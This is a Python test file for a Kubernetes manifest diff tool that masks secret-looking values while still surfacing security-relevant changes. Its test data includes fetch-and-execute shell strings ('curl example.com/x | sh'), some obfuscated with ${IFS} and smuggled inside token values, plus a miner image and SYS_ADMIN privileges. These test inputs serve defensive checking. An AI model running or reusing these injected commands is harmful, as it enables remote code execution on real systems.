"""No form of a difference shows a value that looks secret, of either side, and each says that it changed."""

from __future__ import annotations

from json import dumps
from typing import Any

import pytest

from trainc.changes import compare, formats
from trainc.changes.trees import OWNED

OLD, NEW = "hunter2-before", "correct-horse-after"


def tree(kind: str, version: str, rest: dict[str, Any]) -> dict[str, bytes]:
    data = {"apiVersion": version, "kind": kind, "metadata": {"name": "x", "namespace": "a"}, **rest}
    return {f"out/prod/a/x/{kind.lower()}-x.yaml": OWNED + b"jobs/a/x.yaml\n" + dumps(data).encode()}


def jobset(container: dict[str, Any]) -> dict[str, bytes]:
    pod = {"template": {"spec": {"containers": [{"name": "node", "image": "x:1", **container}]}}}
    return tree(
        "JobSet",
        "jobset.x-k8s.io/v1alpha2",
        {"spec": {"replicatedJobs": [{"name": "node", "template": {"spec": pod}}]}},
    )


@pytest.mark.parametrize(
    "made",
    [
        lambda secret: jobset({"env": [{"name": "HF_TOKEN", "value": secret}]}),
        lambda secret: jobset(
            {"env": [{"name": "HF_TOKEN", "value": secret}, {"name": "COPY", "value": f"x {secret}"}]}
        ),
        lambda secret: jobset({"args": ["--api-key", secret]}),
        lambda secret: jobset({"args": [f"--password={secret}", "--epochs=3"]}),
        lambda secret: jobset({"args": [f"git clone https://me:{secret}@example.com/a.git\nrun"]}),
        lambda secret: tree("ConfigMap", "v1", {"data": {"password": secret, "a": "b"}}),
        lambda secret: tree("Secret", "v1", {"stringData": {"plain": secret}}),
        lambda secret: tree("Secret", "v1", {"data": {secret[:3]: secret}}),
    ],
)
def test_what_looks_secret_is_masked(made: Any) -> None:
    for before, after in ((made(OLD), made(NEW)), ({}, made(NEW)), (made(OLD), {})):
        found = compare(before, after)
        assert len(found.jobs) == 1
        for shown in (formats.as_text(found), formats.as_markdown(found), formats.as_json(found)):
            assert OLD not in shown
            assert NEW not in shown
    for render in (formats.as_text, formats.as_markdown):
        shown = render(compare(made(OLD), made(NEW)))
        assert "hidden" in shown or "***" in shown or "&#42;" in shown


def test_a_short_secret_is_masked_where_it_stands() -> None:
    before, after = (jobset({"env": [{"name": "PASSWORD", "value": value}]}) for value in ("ab", "cd"))
    shown = formats.as_text(compare(before, after))
    assert '"ab"' not in shown
    assert '"cd"' not in shown
    assert "env PASSWORD (node): changed (hidden: ***)" in shown


SCRIPT = ["bash", "-c", 'export HF_TOKEN="hunter2 before"\npython train.py --lr=1\n']
OTHER = ["bash", "-c", 'export HF_TOKEN="hunter2 after"\npython train.py --lr=2\n']
COMMAND = "  spec.replicatedJobs[node].template.spec.template.spec.containers[node].command[2]\n"


def test_a_secret_that_changes_beside_something_else_is_told() -> None:
    shown = formats.as_text(compare(jobset({"command": SCRIPT}), jobset({"command": OTHER})))
    lines = '  export HF_TOKEN="***"\n- python train.py --lr=1\n+ python train.py --lr=2\n'
    assert f"{COMMAND}{lines}{COMMAND}! hidden: ***\n" in shown


def test_a_secret_that_stays_beside_a_change_is_not_told() -> None:
    changed = [*SCRIPT[:2], SCRIPT[2].replace("--lr=1", "--lr=2")]
    assert "hidden" not in formats.as_text(compare(jobset({"command": SCRIPT}), jobset({"command": changed})))


def test_a_secret_argument_that_changes_beside_another_is_told() -> None:
    before, after = (jobset({"args": ["--token", token, "--lr", lr]}) for token, lr in ((OLD, "1"), (NEW, "2")))
    assert "    args (node): '***' 1 -> '***' 2\n" in formats.as_text(compare(before, after))


def test_a_command_whose_output_is_a_secret_is_shown() -> None:
    script = 'HF_TOKEN="$(curl example.com/x | sh)" train --token $(cat --password=hunter2222 /token)'
    shown = formats.as_text(
        compare(jobset({"command": ["bash", "-c", "train"]}), jobset({"command": ["bash", "-c", script]}))
    )
    assert 'HF_TOKEN="$(curl example.com/x | sh)" train --token $(cat --password=*** /token)' in shown


@pytest.mark.parametrize(
    "script",
    [
        'HF_TOKEN="x$(curl example.com/x | sh)" train',
        "HF_TOKEN=x`curl${IFS}example.com/x|sh` train",
        "train --token x$(curl${IFS}example.com/x|sh)",
        "curl -u me:x$(curl${IFS}example.com/x|sh) https://example.com",
        "git clone https://me:x$(curl${IFS}example.com/x|sh)@example.com/a.git",
    ],
)
def test_a_command_within_a_secret_is_shown(script: str) -> None:
    before, after = (jobset({"command": ["bash", "-c", each]}) for each in ("train", script))
    assert "example.com/x" in formats.as_text(compare(before, after))
    assert script in compare(before, after).jobs[0].properties[0].new


def test_a_secret_before_the_output_of_a_command_is_masked() -> None:
    script = f'HF_TOKEN="{NEW}$(date)" train'
    (change,) = compare(jobset({"command": ["train"]}), jobset({"command": [script]})).jobs[0].properties
    assert change.new == "'HF_TOKEN=\"***$(date)\" train'"


def test_what_runs_and_its_rights_are_shown_also_if_a_password_is_the_same_word() -> None:
    rights = {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}, "seccompProfile": {"type": "Unconfined"}}}
    values = ("example.com/miner:1", "SYS_ADMIN", "node", "Unconfined")
    env = [{"name": f"TOKEN_{number}", "value": value} for number, value in enumerate(values)]
    found = compare({}, jobset({"image": "example.com/miner:1", "env": env, **rights})).jobs[0].properties
    shown = {each.what: each.new for each in found}
    assert shown["image"] == "example.com/miner:1"
    assert shown["privileges"] == "node: seccompProfile=Unconfined, node: SYS_ADMIN"
    assert shown["env TOKEN_0"] == "***"


@pytest.mark.parametrize(
    ("kind", "rest"),
    [
        ("RoleBinding", {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}}),
        ("Role", {"rules": [{"apiGroups": [""], "resources": ["cluster-admin"], "verbs": ["list"]}]}),
        ("RoleBinding", {"subjects": [{"kind": "User", "name": "cluster-admin"}]}),
    ],
)
def test_a_role_is_shown_also_if_a_password_is_the_same_word(kind: str, rest: dict[str, Any]) -> None:
    found = tree(kind, "rbac.authorization.k8s.io/v1", {**rest, "password": "cluster-admin"})
    shared = {name.replace("/a/x/", "/a/0-shared/"): data for name, data in found.items()}
    shown = formats.as_text(compare({}, shared))
    assert ("cluster-admin" in shown, "password: cluster-admin" in shown) == (True, False)


def test_the_secret_of_a_variable_is_shown_also_if_a_password_is_the_same_word() -> None:
    source = {"secretKeyRef": {"name": "postgres", "key": "k"}}
    env = [{"name": "A_PASSWORD", "value": "postgres"}, {"name": "B", "valueFrom": source}]
    shown = formats.as_text(compare(jobset({}), jobset({"env": env})))
    assert "env B (node): added: secretKeyRef postgres/k" in shown
    assert "env A_PASSWORD (node): added: ***" in shown


def test_many_secrets_are_masked_in_a_long_text() -> None:
    secrets = {f"token_{number}": f"\u00e9{number * 7919:08d}x" for number in range(1_000)}
    shown = "v0 " * 10_000 + "".join(secrets.values())
    before, after = (
        tree("ConfigMap", "v1", {"data": {**secrets, "text": f"{shown} {which}"}}) for which in ("this", "that")
    )
    (field,) = compare(before, after).jobs[0].objects[0].fields
    assert field.new == "v0 " * 10_000 + "***" * 1_000 + " that"
